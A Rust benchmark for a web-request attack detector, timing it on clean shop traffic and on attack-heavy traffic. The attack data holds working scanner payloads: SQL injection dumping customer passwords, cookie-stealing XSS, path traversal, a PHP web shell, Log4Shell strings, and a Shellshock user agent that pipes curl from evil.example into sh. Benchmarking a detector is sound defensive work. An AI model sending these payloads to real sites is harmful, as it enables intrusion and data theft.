//! Payload detector throughput: requests per second on clean shop traffic and
//! on attack-heavy traffic, with allocations counted.
//!
//! Run with `cargo bench -p payloads`. Inputs are built here, deterministically.

use divan::counter::ItemsCount;
use payloads::{Request, inspect};

#[global_allocator]
static ALLOC: divan::AllocProfiler = divan::AllocProfiler::system();

fn main() {
    divan::main();
}

const N_REQUESTS: usize = 10_000;

/// One request, owned.
struct Owned {
    path: String,
    query: String,
    user_agent: &'static str,
    referer: String,
}

impl Owned {
    fn request(&self) -> Request<'_> {
        Request {
            path: &self.path,
            query: &self.query,
            user_agent: self.user_agent,
            referer: &self.referer,
        }
    }
}

const AGENTS: &[&str] = &[
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
];

/// A day of ordinary shop requests: product and category pages, searches
/// (some in Chinese, percent-encoded), static assets, campaign links.
fn clean_requests() -> Vec<Owned> {
    let categories = ["shoes", "bags", "women", "men", "kids", "sale", "new-arrivals"];
    let searches =
        ["%E9%9E%8B%E5%AD%90", "red+dress", "running+shoes", "%E5%8C%85%E5%8C%85", "gift"];
    (0..N_REQUESTS)
        .map(|idx| {
            let category = categories[idx % categories.len()];
            let (path, query) = match idx % 10 {
                0..=2 => (format!("/product/{}", 10_000 + idx * 7 % 9_000), String::new()),
                3 | 4 => {
                    (format!("/category/{category}"), format!("page={}&sort=price", idx % 9 + 1))
                }
                5 => (
                    "/search".to_owned(),
                    format!("q={}&page={}", searches[idx % searches.len()], idx % 3 + 1),
                ),
                6 => (
                    format!("/static/css/app.{:08x}.css", idx * 2_654_435_761 % 0xffff_ffff),
                    String::new(),
                ),
                7 => (format!("/static/img/p{}.webp", idx % 500), String::new()),
                8 => (
                    "/".to_owned(),
                    format!(
                        "utm_source=newsletter&utm_medium=email&utm_campaign=spring_{}",
                        idx % 12
                    ),
                ),
                _ => ("/cart".to_owned(), String::new()),
            };
            let referer = if idx % 3 == 0 {
                format!("https://shop.example.tw/category/{category}")
            } else {
                String::new()
            };
            Owned { path, query, user_agent: AGENTS[idx % AGENTS.len()], referer }
        })
        .collect()
}

/// Probes and exploits as scanners send them, mixed with ordinary requests
/// (three attacks in four requests).
fn attack_requests() -> Vec<Owned> {
    let queries = [
        "id=10%27%20AND%20%271%27%3D%271",
        "id=-1%20UNION%20ALL%20SELECT%20NULL%2Cemail%2Cpassword%20FROM%20customers--",
        "id=1%20AND%20SLEEP(5)",
        "q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
        "q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        "file=..%2F..%2F..%2Fetc%2Fpasswd",
        "file=%252e%252e%252f%252e%252e%252fwindows%252fwin.ini",
        "page=http%3A%2F%2Fevil.example%2Fshell.txt%3F",
        "host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd",
        "ip=%24(wget%20http%3A%2F%2Fevil.example%2Fx%20-O%20%2Ftmp%2Fx)",
        "x=%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%3F%3E",
        "x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
        "sort=price%20desc%2C(select%201%20from%20(select%20sleep(3))x)",
        "q=1%27%3B%20DROP%20TABLE%20orders--%20-",
    ];
    let agents = [
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "() { :; }; /bin/bash -c 'curl http://evil.example/x|sh'",
        "Mozilla/5.0 ${jndi:ldap://evil.example/a}",
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
    ];
    let clean = clean_requests();
    (0..N_REQUESTS)
        .map(|idx| {
            if idx % 4 == 3 {
                let ordinary = &clean[idx];
                return Owned {
                    path: ordinary.path.clone(),
                    query: ordinary.query.clone(),
                    user_agent: ordinary.user_agent,
                    referer: ordinary.referer.clone(),
                };
            }
            let user_agent = if idx % 5 == 0 {
                agents[idx / 5 % agents.len()]
            } else {
                AGENTS[idx % AGENTS.len()]
            };
            Owned {
                path: format!("/product/{}", idx % 900),
                query: queries[idx % queries.len()].to_owned(),
                user_agent,
                referer: String::new(),
            }
        })
        .collect()
}

fn run(bencher: divan::Bencher<'_, '_>, requests: &[Owned]) {
    bencher.counter(ItemsCount::new(requests.len())).bench_local(|| {
        let mut n_verdicts = 0usize;
        for owned in requests {
            n_verdicts += inspect(divan::black_box(&owned.request())).len();
        }
        n_verdicts
    });
}

#[divan::bench]
fn clean_shop_traffic(bencher: divan::Bencher<'_, '_>) {
    let requests = clean_requests();
    assert!(
        requests.iter().all(|owned| inspect(&owned.request()).is_empty()),
        "clean traffic has no verdicts"
    );
    run(bencher, &requests);
}

/// The user agents of clean traffic alone: the longest part of most lines.
#[divan::bench]
fn clean_user_agents_only(bencher: divan::Bencher<'_, '_>) {
    let requests: Vec<Owned> = clean_requests()
        .into_iter()
        .map(|owned| Owned {
            path: String::new(),
            query: String::new(),
            referer: String::new(),
            ..owned
        })
        .collect();
    run(bencher, &requests);
}

#[divan::bench]
fn attack_heavy_traffic(bencher: divan::Bencher<'_, '_>) {
    let requests = attack_requests();
    run(bencher, &requests);
}
